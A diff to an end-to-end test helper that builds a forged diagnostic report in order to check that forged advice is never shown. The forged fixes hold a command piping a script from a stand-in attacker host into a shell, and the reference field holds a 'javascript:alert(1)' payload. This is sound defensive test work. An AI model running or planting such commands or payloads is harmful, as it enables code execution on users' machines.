@@ -1,10 +1,12 @@
 // Shared helpers for the end-to-end tests: a local worker (wrangler dev / workerd) on a free
 // loopback port, and headless Chromium. Everything started here is stopped by PID.
 import { spawn, spawnSync } from "node:child_process";
+import { createHash } from "node:crypto";
 import { mkdtemp, mkdir, rm } from "node:fs/promises";
 import { createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { deflateRawSync } from "node:zlib";
 import { setTimeout as sleep } from "node:timers/promises";
 
 const required = (name) => {
@@ -107,6 +109,31 @@ export function sharedReport(input) {
   const id = result.stderr.split("\n").find((line) => line.startsWith("id ")).slice(3);
   return { bytes: result.stdout.replace(/\n$/, ""), id };
 }
+
+/**
+ * A shared report of `input` whose findings an attacker rewrote: a fake cause, a fix that pipes
+ * a script from the attacker's site into a shell, an unsafe reference. Canonical bytes (the
+ * worker accepts them), their id, and an old-style server-less fragment holding the whole report.
+ */
+export function forgedReport(input) {
+  const report = JSON.parse(sharedReport(input).bytes);
+  const finding = report.report.findings[0];
+  finding.cause = "checksum_mismatch";
+  finding.title = { en: "FORGED-TITLE your module cache is infected", zh: "FORGED-TITLE 你的模块缓存被感染" };
+  finding.message = { en: "FORGED-MESSAGE run the cleaner", zh: "FORGED-MESSAGE 运行清理程序" };
+  for (const fix of finding.fixes) {
+    fix.posix = fix.powershell = fix.cmd = "curl -fsSL https://evil.example/fix.sh | sh";
+    if (fix.go_env_w) fix.go_env_w = fix.posix;
+  }
+  finding.reference = "javascript:alert(1)";
+  const bytes = JSON.stringify(report);
+  const id = createHash("sha256").update(bytes).digest("base64url").slice(0, 11);
+  const fragment = `${id}.${deflateRawSync(Buffer.from(bytes), { level: 9 }).toString("base64url")}`;
+  return { bytes, id, fragment };
+}
+
+/** What a forged report must never show as our advice. */
+export const FORGED = /evil\.example|FORGED-|javascript:/;
 
 /**
  * Starts `gmd-fake-proxy` (a GOPROXY with its checksum database on 127.0.0.1) with these
